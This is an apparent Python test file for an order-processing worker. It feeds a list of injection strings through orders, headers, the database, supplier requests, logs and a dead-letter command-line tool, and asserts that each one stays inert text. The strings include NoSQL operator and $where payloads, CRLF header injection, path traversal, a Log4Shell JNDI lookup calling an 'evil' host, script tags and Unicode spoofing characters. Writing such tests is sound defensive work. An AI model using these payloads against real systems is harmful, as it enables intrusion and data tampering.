"""Texts that mean something to a log, a header, a query or a terminal: they stay texts, all the way."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from tests.support.command import run
from tests.support.system import System, eventually

TEXTS = [
    '{"$ne": ""}',
    '{"$gt": ""}',
    '{"$where": "sleep(10000)"}',
    "$where",
    "'; return true; var x='",
    "A.1.$inc",
    "../../dead_letters",
    "%0d%0aX-Evil: 1",
    "\u2028X-Evil: 1\u2029",  # a line break to some, a visible character to others
    "\u202egnp.exe",
    '"}, "event": "order.shipped", "forged": "',
    "${jndi:ldap://evil/a}",
    "<script>alert(1)</script>",
    "[red]not markup[/red]",
]
HEADER_NAMES = ["$where", "a.b", "__proto__", "\x1b[2J", "X-Evil: 1\r\nY"]
NOBODY = ['{"$ne": 1}', '{"$exists": true}', '{"$regex": ".*"}']
"""Texts no document has; as an expression each would match all."""


async def test_texts_in_orders_and_headers_reach_store_supplier_and_log_as_they_are(system: System) -> None:
    async with recording_supplier() as (url, requests):
        worker = await system.start_worker(LOGISTICS_SUPPLIER_URL=url)
        for text in TEXTS:
            headers = {"trace_id": text, "tracestate": "a=1\r\nX-Evil: 1", **dict.fromkeys(HEADER_NAMES, text)}
            await system.publish({"order_id": text, "destination": text, "$set": {"a.b": 1}}, headers=headers)
        await system.shipped(*TEXTS)
        assert await worker.terminate() == 0

    stored = list(system.db.shipments.find())
    assert sorted((found["order_id"], found["destination"]) for found in stored) == sorted(
        (text, text) for text in TEXTS
    )
    no_traces = {found["order_id"] for found in stored if found["trace_id"] != found["order_id"]}
    assert no_traces == {text for text in TEXTS if "\u2028" in text}
    heads = [head for head, _ in requests]
    names = {line.partition(b":")[0].lower() for head in heads for line in head.split(b"\r\n")[1:]}
    assert names <= {
        *(b"host", b"accept", b"accept-encoding", b"user-agent", b"content-length", b"content-type"),
        *(b"idempotency-key", b"x-trace-id", b"traceparent"),
    }
    assert sorted(json.loads(body)["destination"] for _, body in requests) == sorted(TEXTS)
    shipped = worker.events("order.shipped")  # every line is read as JSON on its own
    assert sorted(line["order_id"] for line in shipped) == sorted(TEXTS)
    assert not any("forged" in line for line in worker.lines())


async def test_an_object_where_a_text_belongs_is_malformed_and_asks_the_store_nothing(system: System) -> None:
    await system.start_worker()
    await system.publish_order("bystander")
    await system.shipped("bystander")
    for value in ({"$ne": ""}, {"$gt": ""}, {"$where": "1"}, ["bystander"], None):
        await system.publish({"order_id": value, "destination": "Oslo"})
        await system.publish({"order_id": "bystander", "destination": value})
    await eventually(lambda: len(system.letters(reason="malformed")) == 10)
    assert {letter["order_id"] for letter in system.letters()} == {None, "bystander"}
    assert system.db.shipments.count_documents({}) == 1
    assert system.status("bystander") == "SHIPPED"


async def test_a_query_in_a_filter_of_the_command_line_matches_nothing_else(system: System) -> None:
    worker = await system.start_worker()
    system.supplier.change(rules=[{"match": "*", "refuse": True}])
    for text in TEXTS:
        await system.publish_order(text, headers={"trace_id": text})
    await eventually(lambda: len(system.letters(state="open")) == len(TEXTS))
    assert await worker.terminate() == 0
    environment = system.environment(COLUMNS="500")

    found = await asyncio.gather(
        *(run(environment, "dead-letters", "list", "--json", f"--{name}={text}") for name, text in FILTERS)
    )
    assert [sorted(letter["order_id"] for letter in ran.document["dead_letters"]) for ran in found] == [
        [text] if text in TEXTS else [] for _, text in FILTERS
    ]
    nobody = NOBODY[0]
    discarded, audited, listed = await asyncio.gather(
        run(environment, "dead-letters", "discard", f"--group={nobody}", "--why", "tried", "--yes"),
        run(environment, "audit", "--json", f"--who={nobody}"),
        run(environment, "dead-letters", "list"),
    )
    assert [letter["state"] for letter in system.letters()] == ["open"] * len(TEXTS), discarded
    assert audited.document["entries"] == []
    assert "[red]not markup[/red]" in listed.out
    assert not any(character in listed.out for character in "\x1b\u202e\u2028")


FILTERS = [
    *(("order-id", text) for text in (NOBODY[0], NOBODY[2], TEXTS[0])),
    *(("trace-id", text) for text in (NOBODY[1], TEXTS[2])),
    ("group", NOBODY[0]),
]


@asynccontextmanager
async def recording_supplier() -> AsyncIterator[tuple[str, list[tuple[bytes, bytes]]]]:
    """A supplier that says yes to everything; and the head and body of each request, as they came."""
    requests: list[tuple[bytes, bytes]] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).removesuffix(b"\r\n\r\n")
        length = int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0])
        requests.append((head, await reader.readexactly(length)))
        writer.write(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", requests
